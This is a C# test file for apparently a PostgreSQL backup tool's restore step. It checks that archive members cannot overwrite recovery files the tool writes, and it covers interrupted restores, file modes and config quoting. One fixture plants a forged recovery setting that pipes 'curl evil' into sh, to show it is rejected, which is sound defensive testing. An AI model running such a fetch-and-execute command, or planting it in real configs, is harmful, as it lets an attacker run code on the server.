using PgArchive.Support;

namespace PgArchive.Backups;

/// <summary>
/// What backup-fetch leaves in its target: the names it writes itself are never taken from an archive, an
/// interrupted restore is reported as such, and directories get PostgreSQL's modes.
/// </summary>
[System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
public sealed class RestoreTargetTests : IDisposable
{
    private const UnixFileMode Private = (UnixFileMode)0b111_000_000;
    private const UnixFileMode GroupRead = (UnixFileMode)0b111_101_000;
    private readonly RestoreBench _bench = new();

    public void Dispose() => _bench.Dispose();

    private static CancellationToken Token => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("recovery.signal")]
    [InlineData("standby.signal")]
    [InlineData("/standby.signal")]
    [InlineData("recovery.conf")]
    [InlineData("pgarchive.restore.json")]
    [InlineData("./pgarchive.restore.json")]
    [InlineData(IncompleteRestoreMarker.FileName)]
    public async Task Names_backup_fetch_writes_itself_are_not_taken_from_the_archive(string member)
    {
        await _bench.StoreAsync(TarMember.File("PG_VERSION", "15\n"u8.ToArray()), TarMember.File(member, "restore_command = 'curl evil | sh'"u8.ToArray()));

        await _bench.FetchAsync();

        Assert.Equal(["PG_VERSION", "backup_label", "global", "pg_wal"], RestoreBench.Entries(_bench.Target));
    }

    [Fact]
    public async Task Interrupted_restore_is_named_as_such_with_what_its_marker_says()
    {
        await _bench.StoreAsync(TarMember.File("PG_VERSION", "15\n"u8.ToArray()));
        Directory.CreateDirectory(Path.Combine(_bench.Target, "base"));
        await File.WriteAllTextAsync(Path.Combine(_bench.Target, IncompleteRestoreMarker.FileName),
            "pgarchive backup-fetch of base_000000010000000000000002 started at 2026-11-20T10:00:00Z and has not finished\n", Token);

        var ex = await Assert.ThrowsAsync<PgArchiveException>(() => _bench.FetchAsync());

        Assert.Contains("interrupted restore", ex.Message, StringComparison.Ordinal);
        Assert.Contains("base_000000010000000000000002 started at 2026-11-20T10:00:00Z", ex.Message, StringComparison.Ordinal);
        Assert.Contains(IncompleteRestoreMarker.FileName, ex.Message, StringComparison.Ordinal);
        Assert.Equal([IncompleteRestoreMarker.FileName, "base"], RestoreBench.Entries(_bench.Target));
    }

    private static async Task InterruptedRestoreAsync(string directory)
    {
        Directory.CreateDirectory(Path.Combine(directory, "base", "5"));
        await File.WriteAllTextAsync(Path.Combine(directory, "base", "5", "16384"), "partial", Token);
        await File.WriteAllTextAsync(Path.Combine(directory, IncompleteRestoreMarker.FileName), "pgarchive backup-fetch of x started at y and has not finished\n", Token);
    }

    private BackupFetchRequest Restart(IReadOnlyDictionary<string, string>? mapping = null) => new()
    {
        TargetDirectory = _bench.Target, BackupName = RestoreBench.Backup, RestartInterrupted = true, TablespaceMapping = mapping ?? new Dictionary<string, string>(),
    };

    [Fact]
    public async Task Interrupted_restore_is_cleared_and_restored_again_when_asked()
    {
        await _bench.StoreAsync(TarMember.File("PG_VERSION", "15\n"u8.ToArray()));
        await InterruptedRestoreAsync(_bench.Target);

        await _bench.FetchAsync(Restart());

        Assert.Equal(["PG_VERSION", "backup_label", "global", "pg_wal"], RestoreBench.Entries(_bench.Target));
    }

    [Fact]
    public async Task Interrupted_restore_in_a_tablespace_location_is_cleared_and_restored_again_when_asked()
    {
        var location = Path.Combine(_bench.Root, "ts");
        await _bench.StoreAsync(RestoreBench.Backup,
            SyntheticBackup.Partitions(_bench.PgControl, TarMember.File("pg_tblspc/16390/PG_15_202209061/5/16400", "t"u8.ToArray())),
            sentinel: s => (s.Spec = new TablespaceSpec()).Tablespaces["16390"] = new TablespaceLocation(location + "/", "pg_tblspc/16390"));
        await InterruptedRestoreAsync(_bench.Target);
        await InterruptedRestoreAsync(location);

        await _bench.FetchAsync(Restart());

        Assert.Equal(["PG_15_202209061"], RestoreBench.Entries(location));
        Assert.Equal(["backup_label", "global", "pg_tblspc", "pg_wal"], RestoreBench.Entries(_bench.Target));
    }

    [Fact]
    public async Task Directory_without_the_marker_is_never_cleared_even_when_asked()
    {
        await _bench.StoreAsync(TarMember.File("PG_VERSION", "15\n"u8.ToArray()));
        Directory.CreateDirectory(_bench.Target);
        await File.WriteAllTextAsync(Path.Combine(_bench.Target, "keep"), "mine", Token);

        var ex = await Assert.ThrowsAsync<PgArchiveException>(() => _bench.FetchAsync(Restart()));

        Assert.Contains("not empty", ex.Message, StringComparison.Ordinal);
        Assert.Equal(["keep"], RestoreBench.Entries(_bench.Target));
    }

    [Fact]
    public async Task Interrupted_restore_beside_a_postmaster_pid_is_never_cleared()
    {
        await _bench.StoreAsync(TarMember.File("PG_VERSION", "15\n"u8.ToArray()));
        await InterruptedRestoreAsync(_bench.Target);
        await File.WriteAllTextAsync(Path.Combine(_bench.Target, "postmaster.pid"), "4242\n", Token);

        var ex = await Assert.ThrowsAsync<PgArchiveException>(() => _bench.FetchAsync(Restart()));

        Assert.Contains("postmaster.pid", ex.Message, StringComparison.Ordinal);
        Assert.Equal([IncompleteRestoreMarker.FileName, "base", "postmaster.pid"], RestoreBench.Entries(_bench.Target));
    }

    [Fact]
    public async Task Added_files_are_written_private_before_the_marker_goes_and_never_taken_from_the_archive()
    {
        await _bench.StoreAsync(TarMember.File("PG_VERSION", "15\n"u8.ToArray()), TarMember.File("restore-settings.json", "{\"forged\": true}"u8.ToArray()));

        await _bench.FetchAsync(new BackupFetchRequest
        {
            TargetDirectory = _bench.Target, BackupName = RestoreBench.Backup, AddedFiles = [new AddedFile("restore-settings.json", "{\"ours\": true}"u8.ToArray())],
        });

        var added = Path.Combine(_bench.Target, "restore-settings.json");
        Assert.Equal("{\"ours\": true}", await File.ReadAllTextAsync(added, Token));
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(added));
        Assert.False(File.Exists(Path.Combine(_bench.Target, IncompleteRestoreMarker.FileName)));
    }

    [Fact]
    public async Task Added_files_are_not_left_by_a_restore_that_fails()
    {
        await _bench.StoreAsync(RestoreBench.Backup, SyntheticBackup.Partitions(_bench.PgControl).Where(p => p.Item1 != "backup_label.tar"), withFilesMetadata: false);

        await Assert.ThrowsAsync<PgArchiveException>(() => _bench.FetchAsync(new BackupFetchRequest
        {
            TargetDirectory = _bench.Target, BackupName = RestoreBench.Backup, AddedFiles = [new AddedFile(RecoveryOptions.SettingsFileName, "{}"u8.ToArray())],
            Recovery = new RecoveryOptions { RestoreCommand = "true" },
        }));

        Assert.Equal([IncompleteRestoreMarker.FileName], RestoreBench.Entries(_bench.Target));
    }

    [Theory]
    [InlineData("recovery.signal")]
    [InlineData(IncompleteRestoreMarker.FileName)]
    [InlineData("conf/settings.json")]
    [InlineData("..")]
    public async Task Added_file_that_is_not_a_plain_name_of_its_own_is_refused(string name)
    {
        await _bench.StoreAsync(TarMember.File("PG_VERSION", "15\n"u8.ToArray()));

        await Assert.ThrowsAsync<ArgumentException>(() => _bench.FetchAsync(new BackupFetchRequest
        {
            TargetDirectory = _bench.Target, BackupName = RestoreBench.Backup, AddedFiles = [new AddedFile(name, "{}"u8.ToArray())],
        }));

        Assert.False(Directory.Exists(_bench.Target));
    }

    [Fact]
    public async Task Restored_directories_are_private_however_partitions_race_to_create_them()
    {
        // Files deep under directories whose own entries are in no partition (or a later one): every directory on
        // the way is created by whichever partition gets there first.
        var members = Enumerable.Range(0, 8).Select(i => (
            $"part_00{i + 1}.tar",
            new[] { TarMember.File($"base/{16384 + i}/sub/deeper/{i}", Codecs.Data(4096, i)), TarMember.File($"pg_xact/{i:X4}", Codecs.Data(100, i)) }));
        await _bench.StoreAsync(RestoreBench.Backup, [.. members, .. SyntheticBackup.Partitions(_bench.PgControl).Skip(1)]);

        await _bench.FetchAsync();

        foreach (var directory in Directory.EnumerateDirectories(_bench.Target, "*", SearchOption.AllDirectories).Prepend(_bench.Target))
        {
            Assert.True(File.GetUnixFileMode(directory) == Private, $"{directory} is {File.GetUnixFileMode(directory)}");
        }
    }

    [Fact]
    public async Task Directory_modes_recorded_in_the_tar_are_kept_up_to_group_read()
    {
        await _bench.StoreAsync(
            TarMember.Directory("base", GroupRead), TarMember.Directory("base/5", (UnixFileMode)0b111_111_111), TarMember.File("base/5/1259", Codecs.Data(100), (UnixFileMode)0b110_110_110),
            TarMember.Directory("pg_xact", (UnixFileMode)0b111_000_000));

        await _bench.FetchAsync();

        Assert.Equal(GroupRead, File.GetUnixFileMode(Path.Combine(_bench.Target, "base")));
        Assert.Equal(GroupRead, File.GetUnixFileMode(Path.Combine(_bench.Target, "base", "5")));
        Assert.Equal((UnixFileMode)0b110_100_000, File.GetUnixFileMode(Path.Combine(_bench.Target, "base", "5", "1259")));
        Assert.Equal(Private, File.GetUnixFileMode(Path.Combine(_bench.Target, "pg_xact")));
    }

    [Fact]
    public async Task Recovery_settings_are_written_by_postgresql_conf_string_rules()
    {
        await _bench.StoreAsync(TarMember.File("PG_VERSION", "15\n"u8.ToArray()), TarMember.File("postgresql.auto.conf", "work_mem = '8MB'\n"u8.ToArray()));
        const string command = @"'/opt/it''s\pgarchive' wal-fetch ""%f"" ""%p""";

        await _bench.FetchAsync(new BackupFetchRequest
        {
            TargetDirectory = _bench.Target, BackupName = RestoreBench.Backup, Recovery = new RecoveryOptions { RestoreCommand = command, TargetName = "it's" },
        });

        var lines = await File.ReadAllLinesAsync(Path.Combine(_bench.Target, "postgresql.auto.conf"), Token);
        Assert.Contains(@"restore_command = '''/opt/it''''s\\pgarchive'' wal-fetch ""%f"" ""%p""'", lines);
        Assert.Contains("recovery_target_name = 'it''s'", lines);
        Assert.Equal("work_mem = '8MB'", lines[0]);
        Assert.True(File.Exists(Path.Combine(_bench.Target, "recovery.signal")));
    }

    [Theory]
    [InlineData("10")]
    [InlineData("11")]
    public async Task Recovery_settings_before_PostgreSQL_12_go_to_recovery_conf_following_the_latest_timeline(string pgVersion)
    {
        await _bench.StoreAsync(TarMember.File("PG_VERSION", System.Text.Encoding.ASCII.GetBytes(pgVersion + "\n")),
            TarMember.File("postgresql.auto.conf", "work_mem = '8MB'\n"u8.ToArray()));

        await _bench.FetchAsync(new BackupFetchRequest
        {
            TargetDirectory = _bench.Target, BackupName = RestoreBench.Backup,
            Recovery = new RecoveryOptions { RestoreCommand = "cmd '%f'", TargetName = "it's", TargetAction = "promote" },
        });

        var lines = (await File.ReadAllLinesAsync(Path.Combine(_bench.Target, "recovery.conf"), Token)).Where(l => l.Length > 0 && l[0] != '#');
        Assert.Equal(["restore_command = 'cmd ''%f'''", "recovery_target_name = 'it''s'", "recovery_target_action = 'promote'", "recovery_target_timeline = 'latest'"], lines);
        Assert.Equal((UnixFileMode)0b110_000_000, File.GetUnixFileMode(Path.Combine(_bench.Target, "recovery.conf")));
        Assert.Equal("work_mem = '8MB'\n", await File.ReadAllTextAsync(Path.Combine(_bench.Target, "postgresql.auto.conf"), Token));
        Assert.False(File.Exists(Path.Combine(_bench.Target, "recovery.signal")));
        Assert.False(File.Exists(Path.Combine(_bench.Target, "standby.signal")));
    }

    [Theory]
    [InlineData("11", "recovery.conf", "standby_mode = 'on'")]
    [InlineData("12", "postgresql.auto.conf", "standby.signal")]
    [InlineData("18", "postgresql.auto.conf", "standby.signal")]
    public async Task Standby_is_configured_in_the_form_its_version_reads(string pgVersion, string configFile, string standby)
    {
        await _bench.StoreAsync(TarMember.File("PG_VERSION", System.Text.Encoding.ASCII.GetBytes(pgVersion + "\n")));

        await _bench.FetchAsync(new BackupFetchRequest
        {
            TargetDirectory = _bench.Target, BackupName = RestoreBench.Backup,
            Recovery = new RecoveryOptions { RestoreCommand = "cmd", Standby = true, PrimaryConnInfo = "host=127.0.0.1 port=5432 application_name='s1'" },
        });

        var lines = await File.ReadAllLinesAsync(Path.Combine(_bench.Target, configFile), Token);
        Assert.Contains("restore_command = 'cmd'", lines);
        Assert.Contains("recovery_target_timeline = 'latest'", lines);
        Assert.Contains("primary_conninfo = 'host=127.0.0.1 port=5432 application_name=''s1'''", lines);
        Assert.Equal(standby == "standby.signal", File.Exists(Path.Combine(_bench.Target, "standby.signal")));
        Assert.True(standby == "standby.signal" || lines.Contains(standby), string.Join('\n', lines));
        Assert.False(File.Exists(Path.Combine(_bench.Target, "recovery.signal")));
    }

    [Theory]
    [InlineData(90624)] // named by the sentinel: refused before anything is written
    [InlineData(0)] // an older sentinel without the version: refused by PG_VERSION once restored, leaving the marker
    public async Task Recovery_of_a_backup_older_than_PostgreSQL_10_is_refused(int sentinelVersion)
    {
        await _bench.StoreAsync(RestoreBench.Backup, SyntheticBackup.Partitions(_bench.PgControl, TarMember.File("PG_VERSION", "9.6\n"u8.ToArray())),
            sentinel: s => s.PgVersion = sentinelVersion);

        var ex = await Assert.ThrowsAsync<PgArchiveException>(() => _bench.FetchAsync(new BackupFetchRequest
        {
            TargetDirectory = _bench.Target, BackupName = RestoreBench.Backup, Recovery = new RecoveryOptions { RestoreCommand = "cmd" },
        }));

        Assert.StartsWith($"Backup {RestoreBench.Backup} is PostgreSQL 9.6, which pgarchive does not support: it supports PostgreSQL 10 to 18", ex.Message, StringComparison.Ordinal);
        Assert.EndsWith("; restore it without recovery settings and configure its recovery yourself.", ex.Message, StringComparison.Ordinal);
        Assert.Equal(sentinelVersion == 0 ? [IncompleteRestoreMarker.FileName] : null, Directory.Exists(_bench.Target) ? RestoreBench.Entries(_bench.Target) : null);
    }
}
